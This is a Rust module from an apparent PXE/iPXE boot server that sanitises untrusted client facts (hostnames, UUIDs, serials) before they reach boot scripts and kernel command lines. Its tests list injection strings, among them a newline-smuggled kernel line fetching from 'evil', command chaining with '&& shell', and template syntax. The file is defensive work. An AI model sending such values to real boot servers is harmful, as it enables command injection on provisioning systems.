//! What a booting client says about itself, made safe to use.
//!
//! Everything here comes from the network (iPXE's query parameters, DHCP options) and ends up
//! inside iPXE scripts, kernel command lines, PXELINUX configs and installer configs. iPXE
//! expands `${...}` and splits on whitespace, `||` and `&&` chain commands, a newline starts a
//! new command, a space starts a new kernel argument, and `{{`/`{%` would be template syntax if
//! anything re-rendered the output. So every fact is cut down, at the door, to a character set
//! in which none of that can be written: letters, digits and `. _ - : + , /`. Anything else
//! becomes `_`, and values are capped at [`MAX_FACT_LEN`]. Templates then never need to escape.

use std::net::IpAddr;

use chainboot_machine::{Arch, Mac};
use chainboot_store::machines::MachineFacts;
use serde::Serialize;

/// Longest fact kept, in characters (hostnames are ≤ 63 per label; SMBIOS strings are short).
pub const MAX_FACT_LEN: usize = 64;

/// Characters a sanitised fact may contain.
pub fn fact_char_allowed(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | ':' | '+' | ',' | '/')
}

/// Makes an untrusted string safe for any slot: disallowed characters become `_`, length is
/// capped, surrounding whitespace is dropped. Empty results are `None` (iPXE sends an empty
/// string for unset settings).
pub fn sanitize_fact(raw: &str) -> Option<String> {
    let s: String = raw
        .trim()
        .chars()
        .take(MAX_FACT_LEN)
        .map(|c| if fact_char_allowed(c) { c } else { '_' })
        .collect();
    if s.is_empty() {
        None
    } else {
        Some(s)
    }
}

/// A hostname is kept only if it is a valid DNS name (letters, digits, `-`, `.`); otherwise
/// it is dropped rather than mangled, because a mangled hostname would be a wrong one.
pub fn sanitize_hostname(raw: &str) -> Option<String> {
    let s = raw.trim().trim_end_matches('.');
    let ok = !s.is_empty()
        && s.len() <= 253
        && s.split('.').all(|label| {
            !label.is_empty()
                && label.len() <= 63
                && !label.starts_with('-')
                && !label.ends_with('-')
                && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
        });
    ok.then(|| s.to_ascii_lowercase())
}

/// A UUID is kept only in its canonical form (8-4-4-4-12 hex), lower-cased.
pub fn sanitize_uuid(raw: &str) -> Option<String> {
    let s = raw.trim().to_ascii_lowercase();
    let groups: Vec<&str> = s.split('-').collect();
    let lens = [8, 4, 4, 4, 12];
    let ok = groups.len() == 5
        && groups
            .iter()
            .zip(lens)
            .all(|(g, n)| g.len() == n && g.chars().all(|c| c.is_ascii_hexdigit()));
    ok.then_some(s)
}

/// Everything known about a client for one boot decision. Built only through the
/// constructors below, which sanitise.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ClientFacts {
    pub mac: Mac,
    pub arch: Option<Arch>,
    pub uuid: Option<String>,
    pub hostname: Option<String>,
    pub serial: Option<String>,
    pub manufacturer: Option<String>,
    pub product: Option<String>,
    pub ip: Option<IpAddr>,
}

/// Raw, untrusted values as a client sent them (e.g. iPXE's query string).
#[derive(Debug, Clone, Default)]
pub struct RawFacts<'a> {
    pub arch: Option<Arch>,
    pub uuid: Option<&'a str>,
    pub hostname: Option<&'a str>,
    pub serial: Option<&'a str>,
    pub manufacturer: Option<&'a str>,
    pub product: Option<&'a str>,
    pub ip: Option<&'a str>,
}

impl ClientFacts {
    /// Only the MAC is known.
    pub fn new(mac: Mac) -> ClientFacts {
        ClientFacts {
            mac,
            arch: None,
            uuid: None,
            hostname: None,
            serial: None,
            manufacturer: None,
            product: None,
            ip: None,
        }
    }

    /// From untrusted values; each is sanitised or dropped.
    pub fn from_raw(mac: Mac, raw: &RawFacts<'_>) -> ClientFacts {
        ClientFacts {
            mac,
            arch: raw.arch,
            uuid: raw.uuid.and_then(sanitize_uuid),
            hostname: raw.hostname.and_then(sanitize_hostname),
            serial: raw.serial.and_then(sanitize_fact),
            manufacturer: raw.manufacturer.and_then(sanitize_fact),
            product: raw.product.and_then(sanitize_fact),
            ip: raw.ip.and_then(|s| s.trim().parse().ok()),
        }
    }

    /// The store's view (facts not known stay `None`, so the stored value is kept).
    pub fn to_store(&self) -> MachineFacts {
        MachineFacts {
            arch: self.arch.map(|a| a.name().to_string()),
            uuid: self.uuid.clone(),
            hostname: self.hostname.clone(),
            serial: self.serial.clone(),
            manufacturer: self.manufacturer.clone(),
            product: self.product.clone(),
            ip: self.ip.map(|ip| ip.to_string()),
        }
    }

    /// Fills facts this request did not carry from what the store remembers (re-sanitised: the
    /// store may predate a rule).
    pub fn merge_stored(&mut self, stored: &MachineFacts) {
        if self.arch.is_none() {
            self.arch = stored.arch.as_deref().and_then(|a| a.parse().ok());
        }
        if self.uuid.is_none() {
            self.uuid = stored.uuid.as_deref().and_then(sanitize_uuid);
        }
        if self.hostname.is_none() {
            self.hostname = stored.hostname.as_deref().and_then(sanitize_hostname);
        }
        if self.serial.is_none() {
            self.serial = stored.serial.as_deref().and_then(sanitize_fact);
        }
        if self.manufacturer.is_none() {
            self.manufacturer = stored.manufacturer.as_deref().and_then(sanitize_fact);
        }
        if self.product.is_none() {
            self.product = stored.product.as_deref().and_then(sanitize_fact);
        }
        if self.ip.is_none() {
            self.ip = stored.ip.as_deref().and_then(|s| s.parse().ok());
        }
    }
}

/// Labels are set by operators through the API, but still end up in scripts: same rules.
pub fn valid_label(k: &str, v: &str) -> bool {
    let ok = |s: &str| !s.is_empty() && s.len() <= MAX_FACT_LEN && s.chars().all(fact_char_allowed);
    ok(k) && (v.is_empty() || ok(v))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_values_lose_their_syntax() {
        for raw in [
            "a\nkernel http://evil/x",
            "${net0/mac}",
            "{{ machine.secret }}",
            "x && shell",
            "x || shell",
            "a b c",
            "'\"`;|<>#%\\",
            "{% raw %}",
        ] {
            let s = sanitize_fact(raw).unwrap();
            assert!(s.chars().all(fact_char_allowed), "{raw:?} -> {s:?}");
            for bad in ["\n", "$", "{", "}", "&", "|", " ", "%", "#", "\\"] {
                assert!(!s.contains(bad), "{raw:?} -> {s:?}");
            }
        }
        assert_eq!(
            sanitize_fact(&"x".repeat(10_000)).unwrap().len(),
            MAX_FACT_LEN
        );
        assert_eq!(sanitize_fact("  "), None);
    }

    #[test]
    fn hostnames_and_uuids_are_kept_only_when_valid() {
        assert_eq!(
            sanitize_hostname("Node-1.lab").as_deref(),
            Some("node-1.lab")
        );
        assert_eq!(sanitize_hostname("node 1"), None);
        assert_eq!(sanitize_hostname("${x}"), None);
        assert_eq!(sanitize_hostname(&"a".repeat(64)), None);
        let u = "6D1B0E0C-1A2B-4C3D-8E9F-001122334455";
        assert_eq!(sanitize_uuid(u).as_deref(), Some(&*u.to_ascii_lowercase()));
        assert_eq!(sanitize_uuid("6d1b0e0c-1a2b-4c3d-8e9f-00112233445"), None);
        assert_eq!(sanitize_uuid(""), None);
    }
}
